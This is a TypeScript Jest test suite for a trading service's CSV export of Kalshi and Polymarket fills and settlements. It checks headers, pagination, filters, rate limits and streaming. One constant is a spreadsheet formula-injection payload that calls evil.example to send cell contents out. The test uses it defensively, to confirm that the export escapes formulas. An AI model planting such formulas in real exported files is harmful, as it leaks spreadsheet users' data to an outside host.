import { randomUUID } from 'node:crypto';
import { createConnection } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { aBot } from './support/bots.js';
import { codeOf } from './support/calls.js';
import { rounds } from './support/long.js';
import { aHolder, control, type Holder, read, tradeKalshi, tradePolymarket } from './support/portfolio.js';
import { startTestStand, type TestStand } from './support/sandbox.js';

const SLUG = 'will-bitcoin-reach-130k-this-year';
const [HELD, OTHER] = ['KXHIGHNY-TODAY-B55.5', 'KXHIGHNY-TODAY-T58'];
const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1, "Will it rain,\r\nor not?")';

const FILLS =
  'exchange,id,order_id,bot_id,market_id,outcome_index,outcome_id,outcome_label,side,price,size,fee,role,status,timestamp,transaction_hash';
const SETTLEMENTS =
  'exchange,market_id,title,outcome_index,outcome_id,outcome_label,size,cost,payout,fees,realized_pnl,settled_at';

type Item = Record<string, unknown> & { outcome: { index: number; id: string; label: string } };

/** Reads RFC 4180 strictly, written apart from the writer. */
function parsed(text: string): string[][] {
  const rows: string[][] = [];
  let [row, at]: [string[], number] = [[], 0];
  while (at < text.length) {
    const quoted = /"((?:[^"]|"")*)"(,|\r\n)/y;
    const plain = /([^",\r\n]*)(,|\r\n)/y;
    quoted.lastIndex = at;
    plain.lastIndex = at;
    const match = quoted.exec(text);
    const [all, field = '', end] = match ?? plain.exec(text) ?? [];
    if (all === undefined) throw new Error(`no field at ${text.slice(at, at + 40)}`);
    row.push(match === null ? field : field.replaceAll('""', '"'));
    at += all.length;
    if (end === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

describe('fills and settlements as CSV (contract.md 5.17)', () => {
  let stand: TestStand;
  let holder: Holder;

  beforeAll(async () => {
    stand = await startTestStand();
    holder = await aHolder(stand);
    for (let count = 0; count < 105; count += 1)
      await tradeKalshi(holder, {
        ticker: HELD,
        side: count % 2 === 0 ? 'bid' : 'ask',
        count: `0.${String((count % 89) + 11)}`,
        price: count % 2 === 0 ? '0.9900' : '0.0100',
      });
    await tradeKalshi(holder, { ticker: OTHER, side: 'ask', count: '3.33', price: '0.0100' });
    const market = (await read(stand, `/polymarket/markets/${SLUG}`, holder.key)).body as {
      id: string;
      outcomes: { id: string }[];
    };
    await tradePolymarket(holder, {
      tokenId: market.outcomes[0]?.id ?? '',
      negRisk: false,
      side: 'BUY',
      price: '0.99',
      size: '7.77',
    });
    await control(stand, '/kalshi/markets', { ticker: OTHER, result: 'yes' });
    const isPending = async (): Promise<boolean> =>
      (await read(stand, '/polymarket/fills', holder.key)).text.includes('"pending"');
    while (await isPending()) await delay(100);
    await control(stand, '/polymarket/markets', { market_id: market.id, winner: 1 });
    const listed = stand.sandbox.polymarket.exchange.catalogue.findByCondition(market.id);
    Object.assign(listed?.seed ?? {}, { question: HOSTILE });
    const { wallet_address } = holder.polymarket.account;
    await control(stand, '/polymarket/redemptions', { wallet_address, market_id: market.id });
  });

  afterEach(() => {
    stand.sandbox.faults.clear();
  });

  afterAll(() => stand.close());

  const file = async (
    path: string,
    token = holder.key,
  ): Promise<{ headers: Headers; text: string; rows: string[][] }> => {
    const answer = await fetch(`${stand.app.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
    const text = await answer.text();
    expect([path, answer.status, answer.status === 200 ? '' : text]).toEqual([path, 200, '']);
    return { headers: answer.headers, text, rows: parsed(text) };
  };

  const all = async (path: string): Promise<Item[]> => {
    const items: Item[] = [];
    for (let cursor: string | null = ''; cursor !== null;) {
      const at: string = cursor === '' ? '' : `&cursor=${encodeURIComponent(cursor)}`;
      const { data, next_cursor } = (await read(stand, `${path}?limit=100${at}`, holder.key)).body as {
        data: Item[];
        next_cursor: string | null;
      };
      items.push(...data);
      cursor = next_cursor;
    }
    return items;
  };

  it.each(['kalshi', 'polymarket'])('has a row a fill, the same as the list, over all pages: %s', async (exchange) => {
    const fills = await all(`/${exchange}/fills`);
    expect(fills.length).toBeGreaterThan(exchange === 'kalshi' ? 100 : 0);
    const { headers, text, rows } = await file(`/${exchange}/fills.csv`);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toBe(`attachment; filename="${exchange}-fills.csv"`);
    expect(headers.get('cache-control')).toContain('no-store');
    expect(text.startsWith(`${FILLS}\r\n`)).toBe(true);
    expect(rows.slice(1)).toEqual(
      fills.map((fill) => [
        ...[fill.exchange, fill.id, fill.order_id, fill.bot_id ?? '', fill.market_id],
        ...[String(fill.outcome.index), fill.outcome.id, fill.outcome.label],
        ...[fill.side, fill.price, fill.size, fill.fee ?? '', fill.role, fill.status, fill.timestamp],
        fill.transaction_hash ?? '',
      ]),
    );
  });

  it('has a row a settlement, and no title is a formula', async () => {
    const { text, rows } = await file('/polymarket/settlements.csv');
    const [settled] = await all('/polymarket/settlements');
    expect(settled).toMatchObject({ title: HOSTILE, size: '7.77', payout: '0' });
    expect(text.startsWith(`${SETTLEMENTS}\r\n`)).toBe(true);
    expect(rows).toHaveLength(2);
    const row = Object.fromEntries(SETTLEMENTS.split(',').map((name, index) => [name, rows[1]?.[index]]));
    expect(row).toEqual({
      exchange: 'polymarket',
      market_id: settled?.market_id,
      title: `'${HOSTILE}`,
      outcome_index: '0',
      outcome_id: settled?.outcome.id,
      outcome_label: settled?.outcome.label,
      size: '7.77',
      cost: settled?.cost,
      payout: '0',
      fees: '',
      realized_pnl: settled?.realized_pnl,
      settled_at: settled?.settled_at,
    });
    expect(row.realized_pnl).toMatch(/^-\d/);
  });

  it('is cut by market and time', async () => {
    expect((await file(`/kalshi/fills.csv?market_id=${OTHER}`)).rows).toHaveLength(2);
    expect((await file(`/kalshi/settlements.csv?market_id=${OTHER}`)).rows).toHaveLength(2);
    expect((await file(`/kalshi/settlements.csv?market_id=${HELD}`)).rows).toHaveLength(1);
    expect((await file('/kalshi/fills.csv?end=2020-01-01T00:00:00Z')).rows).toHaveLength(1);
    const [settled] = await all('/kalshi/settlements');
    expect((await file(`/kalshi/settlements.csv?start=${String(settled?.settled_at)}`)).rows).toHaveLength(2);
  });

  it('is for sessions too, and of a bot its own', async () => {
    expect((await file('/kalshi/settlements.csv', holder.user.token)).rows).toHaveLength(2);
    const bot = await aBot(stand.app, holder.user);
    expect((await file('/kalshi/fills.csv', bot.key)).text).toBe(`${FILLS}\r\n`);
  });

  it('what fails before the first page is an ordinary error', async () => {
    const nobody = await aHolder(stand, []);
    expect(codeOf(await read(stand, '/kalshi/fills.csv', nobody.key))).toBe('credentials_not_configured');
    for (const query of [
      'start=now',
      'limit=5',
      'cursor=x',
      'market_id=%20',
      'start=2026-02-01T00:00:00Z&end=2026-01-01T00:00:00Z',
    ])
      expect([query, codeOf(await read(stand, `/kalshi/fills.csv?${query}`, holder.key))]).toEqual([
        query,
        'bad_request',
      ]);
    stand.sandbox.faults.add({
      exchange: 'kalshi',
      method: 'GET',
      path: '/portfolio/fills',
      fault: 'status',
      status: 500,
      times: 1,
    });
    const failed = await read(stand, '/kalshi/fills.csv', holder.key);
    expect([failed.status, codeOf(failed), failed.headers['content-disposition']]).toEqual([
      502,
      'exchange_error',
      undefined,
    ]);
  });

  it('a later page that fails breaks the transfer, which nobody takes for a whole file', async () => {
    stand.sandbox.faults.add({
      exchange: 'kalshi',
      method: 'GET',
      path: '/portfolio/fills',
      fault: 'status',
      status: 500,
      times: 1,
      after: 1,
    });
    const answer = await fetch(`${stand.app.url}/kalshi/fills.csv`, {
      headers: { authorization: `Bearer ${holder.key}` },
    });
    expect(answer.status).toBe(200);
    await expect(answer.text()).rejects.toThrow('terminated');
    expect((await file('/kalshi/fills.csv')).rows.length).toBeGreaterThan(100);
  });

  it('is one at a time of a user, whoever asks for it', async () => {
    stand.sandbox.faults.add({
      exchange: 'kalshi',
      method: 'GET',
      path: '/portfolio/fills',
      fault: 'delay',
      delay_ms: 3_500, // below the 5 s that header lines may take
      times: 1,
      after: 1,
    });
    const before = stand.sandbox.log.list('kalshi').length;
    const first = file('/kalshi/fills.csv');
    // Once it reads, it has the place, which it keeps while its second page is late.
    while (stand.sandbox.log.list('kalshi').length === before) await delay(5);
    const second = await read(stand, '/polymarket/settlements.csv', holder.user.token);
    expect([second.status, codeOf(second), Number(second.headers['retry-after']) > 0]).toEqual([
      429,
      'rate_limited',
      true,
    ]);
    const stranger = await aHolder(stand);
    expect((await file('/kalshi/fills.csv', stranger.key)).rows).toHaveLength(1);
    expect((await first).rows.length).toBeGreaterThan(100);
    expect((await file('/kalshi/settlements.csv')).rows).toHaveLength(2);
  });

  it('a reader who goes away frees the place', async () => {
    stand.sandbox.faults.add({
      exchange: 'kalshi',
      method: 'GET',
      path: '/portfolio/fills',
      fault: 'hang',
      times: 1,
      after: 1,
    });
    const { port, hostname } = new URL(stand.app.url);
    const socket = createConnection(Number(port), hostname);
    socket.write(
      `GET /kalshi/fills.csv HTTP/1.1\r\nHost: ${hostname}:${port}\r\nAuthorization: Bearer ${holder.key}\r\n\r\n`,
    );
    await new Promise((resolve) => socket.once('data', resolve));
    expect((await read(stand, '/kalshi/settlements.csv', holder.key)).status).toBe(429);
    socket.destroy();
    let status = 429;
    for (let attempt = 0; attempt < 50 && status === 429; attempt += 1)
      ({ status } = await read(stand, '/kalshi/settlements.csv', holder.key));
    expect(status).toBe(200);
  });

  it('reads no further than the reader has taken', async () => {
    const many = await aHolder(stand);
    await tradeKalshi(many, { ticker: HELD, side: 'bid', count: '1.00', price: '0.9900' });
    const account = [...stand.sandbox.kalshi.exchange.accounts.values()].find(({ fills }) => fills.length === 1);
    const [fill] = account?.fills ?? [];
    if (account === undefined || fill === undefined) throw new Error('There is no fill.');
    const rows = rounds(12_000, 30_000);
    for (let count = 1; count < rows; count += 1)
      account.fills.push({ ...fill, id: `${randomUUID()} ${'x'.repeat(rounds(800, 200))}` });
    const { port, hostname } = new URL(stand.app.url);
    const socket = createConnection(Number(port), hostname);
    socket.pause();
    socket.write(
      `GET /kalshi/fills.csv HTTP/1.0\r\nHost: ${hostname}:${port}\r\nAuthorization: Bearer ${many.key}\r\n\r\n`,
    );
    const read = (): number => stand.sandbox.log.list('kalshi').length;
    const before = read();
    for (let seen = -1; seen !== read();) {
      seen = read();
      await delay(500);
    }
    expect(read() - before).toBeLessThan(rows / 100 - 10);
    const text = await new Promise<string>((resolve) => {
      let body = '';
      socket.setEncoding('utf8').on('data', (part: string) => (body += part));
      socket.once('end', () => {
        resolve(body);
      });
      socket.resume();
    });
    expect(text.split('\r\n\r\n')[1]?.split('\r\n')).toHaveLength(rows + 2);
  });

  it('HEAD answers as GET, without a walk', async () => {
    const before = stand.sandbox.log.list('kalshi').length;
    const answer = await fetch(`${stand.app.url}/kalshi/fills.csv`, {
      method: 'HEAD',
      headers: { authorization: `Bearer ${holder.key}` },
    });
    expect([answer.status, answer.headers.get('content-type'), await answer.text()]).toEqual([
      200,
      'text/csv; charset=utf-8',
      '',
    ]);
    expect(stand.sandbox.log.list('kalshi').length - before).toBe(1);
  });
});
